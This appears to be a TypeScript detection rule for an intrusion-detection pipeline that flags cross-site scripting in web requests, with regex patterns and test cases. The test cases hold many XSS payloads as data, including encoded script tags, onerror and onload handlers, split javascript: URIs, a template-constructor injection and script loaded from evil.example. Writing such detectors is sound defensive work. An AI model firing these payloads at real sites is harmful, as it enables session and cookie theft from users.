import type { EnrichedEvent, Finding } from "../../pipeline/records.ts";
import type { Detection, DetectionCase } from "../detection.ts";
import { BROWSER, finding, get, post, quiet, typed } from "./case-events.ts";
import { TECHNIQUES } from "./techniques.ts";
import { confidenceBy, sightings, signalOf, strongestOf, summaryOf } from "./web-evidence.ts";
import type { Clue } from "./web-evidence.ts";
import { WEB_FIELDS } from "./web-text.ts";
import type { WebText } from "./web-text.ts";

// Names of DOM events, so that attributes such as `online` or `once` are no handlers.
const HANDLER = String.raw`on(?:error|load|unload|(?:aux|dbl)?click|contextmenu|(?:mouse|pointer|touch|key|drag|animation|transition|focus|before|after|page|play|canplay|select|scroll|fullscreen)[a-z]{0,12}|blur|toggle|change|input|submit|reset|wheel|hashchange|message|begin|end|repeat|start|finish|bounce|cut|copy|paste|drop|pause|ended|progress|seek(?:ed|ing)|invalid|search|show|cancel|close|resize|storage|popstate|readystatechange|propertychange|activate)`;
const SPACE = String.raw`[\s\u0000]`;
const SINK = String.raw`(?:alert|confirm|prompt|eval|fetch|atob|settimeout|setinterval|import|string\.fromcharcode)`;

/** The letters of a word, with the white space between them that browsers drop. */
const spaced = (word: string): string => word.split("").join(`${SPACE}{0,2}`);

const STRONG: readonly Clue[] = [
  { label: "script tag", pattern: /<[\s\u0000]{0,4}\/?script(?:[\s/>]|$)/ },
  {
    label: "event handler in a tag",
    pattern: new RegExp(String.raw`<[a-z!][^<>]{0,256}[\s/"'\u0000]${HANDLER}[^\w<>=]{0,32}=`),
  },
  {
    label: "event handler after a quote",
    pattern: new RegExp(
      String.raw`["'\x60][\s/]{0,8}(?:[a-z]{1,16}(?:=\w{0,16})?[\s/]{1,4})?${HANDLER}\s{0,8}=`,
    ),
  },
  {
    // `javascript:void(0)` is what crawlers make of a link that does nothing.
    label: "script URI",
    pattern: new RegExp(
      String.raw`(?:${spaced("java")}|vb)${SPACE}{0,4}${spaced("script")}${SPACE}{0,4}:(?!void ?\(0\);?(?:$|[\s"'&<]))(?:\s{0,4}${SINK}\s{0,4}[(\x60]|//|/\*|[^\s"'<>&]{0,64}[(\x60=])`,
    ),
  },
  { label: "HTML data URI", pattern: /data:text\/html[;,\s]/ },
  { label: "inline frame document", pattern: /<iframe[^<>]{0,256}srcdoc/ },
  {
    label: "script in a style",
    pattern: /style\s{0,4}=[^<>]{0,200}(?:expression\s{0,4}\(|-moz-binding\s{0,4}:)/,
  },
  { label: "template expression", pattern: /\bconstructor\.constructor\s{0,2}\(/ },
];

/** Rich text and code in a body have these too; in a URL or a header they are out of place. */
const OUTSIDE_BODY: readonly Clue[] = [
  ...STRONG,
  {
    label: "embedding tag",
    pattern:
      /<(?:iframe|object|embed|base|applet|frame|meta)[\s/][^<>]{0,256}(?:src|data|href|code|content)\s{0,4}=/,
  },
  {
    label: "call after a quote",
    pattern: new RegExp(String.raw`["'\x60][;+*,-]{1,3}\s{0,2}${SINK}\s{0,2}[(\x60]`),
  },
];

const WEAK: readonly Clue[] = [
  {
    label: "access to the page",
    pattern: /\b(?:document\.(?:cookie|domain|write|location)|window\.|localstorage)/,
  },
  { label: "call of a script function", pattern: new RegExp(String.raw`\b${SINK}\s{0,4}[(\x60]`) },
];

/** What every class needs; quicker than all of them. */
const HINT =
  /<[\s\u0000/!a-z]|=(?<=(?:\bon[a-z]{3,32}[^\w<>=]{0,32}|style\s{0,4})=)|:(?<=(?:t[\s\u0000]{0,4}|data):)|\.constructor|["'`][;+*,-]{1,3}\s{0,2}[a-z]{4,32}[.\s(`]/;

/** Script in what a request carries. Whether the application reflects it cannot be seen from here, hence MEDIUM. */
export const detection: Detection = {
  id: "cross-site-scripting",
  title: "Cross-site scripting",
  technique: TECHNIQUES.XSS,
  actions: [
    "Send the same request and check whether the reply holds the text unescaped",
    "Escape the attacked parameter where the page shows it",
    "Look for stored copies of the text in the application's data",
  ],
  reads: WEB_FIELDS,
  examine: (enriched) => strongestOf(enriched, examineText),
};

function examineText(text: WebText, enriched: EnrichedEvent): Finding | undefined {
  if (!text.forms.some((form) => HINT.test(form))) return undefined;
  const strong = sightings(text.forms, text.place === "body" ? STRONG : OUTSIDE_BODY);
  if (strong.length === 0) return undefined;
  const seen = [...strong, ...sightings(text.forms, WEAK)];
  return {
    detection: detection.id,
    severity: "MEDIUM",
    threat_type: "XSS",
    confidence: confidenceBy(seen.length, [0.7, 0.85, 0.92]),
    summary: summaryOf("Cross-site scripting", text, enriched, seen),
    signals: seen.map(signalOf),
  };
}

export const cases: readonly DetectionCase[] = [
  ...finding("MEDIUM", "XSS", {
    "script tag": get("/search?q=<script>alert(1)</script>"),
    "encoded script tag": get("/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    "double-encoded script tag": get("/search?q=%253Cscript%253Ealert(1)"),
    "HTML entities": post("/comments", "text=&#x3c;script&#x3e;alert(1)"),
    "JSON escapes": post("/comments", '{"text":"\\u003cscript\\u003ealert(1)"}'),
    "an image that fails": get("/search?q=<img src=x onerror=alert(1)>"),
    "svg without spaces": get("/search?q=%3Csvg/onload=alert`1`%3E"),
    "out of an attribute": get('/search?q="%20autofocus%20onfocus=alert(1)%20x="'),
    "script URI": get("/redirect?to=javascript:alert(document.domain)"),
    "split script URI": get("/redirect?to=java%0ascript:alert(1)"),
    "script URI behind a harmless start": get("/redirect?to=javascript:void(0);alert(1)"),
    "a referer": get("/", { headers: { Referer: "https://x.example/?<script src=//evil.example/x.js>" } }),
    "a frame from elsewhere": get("/search?q=<iframe src=//evil.example>"),
    "out of a script's string": get("/search?q='-alert(1)-'"),
    "a letter apart": get("/redirect?to=jav%09ascript:alert(1)"),
    "a template expression": get("/search?q={{constructor.constructor('alert(1)')()}}"),
    "called normal": typed(
      "normal_traffic",
      { url: "/?q=<svg onload=alert(1)>" },
      { threat_type: "NORMAL_TRAFFIC" },
    ),
  }),
  ...quiet({
    "a heart": get("/search?q=i+<3+you"),
    "a comparison": get("/search?q=a<b and only=5"),
    "prose about scripts": post("/posts", "JavaScript: the good parts. Use onload = fast pages; <b>bold</b>"),
    "a crawler on an empty link": get("/javascript:void(0);"),
    "rich text": post("/posts", '<p class="lead">Hello <a href="https://example.com/on/sale">there</a></p>'),
    "an embedded video": post("/posts", '<iframe src="https://video.example/embed/1" width="560"></iframe>'),
    "prose about style": post("/posts", "a style of artistic expression (painting)"),
    "code in a post": post("/posts", 'log("saved");alert("done")'),
    "a JSON list": post("/words", '{"words":["fetch","prompt"],"style":"bold"}'),
    "XML with an attribute online": post("/status", '<service name="db" online="true" once="1"/>'),
    "a browser's request": get("/products/7", BROWSER),
  }),
];
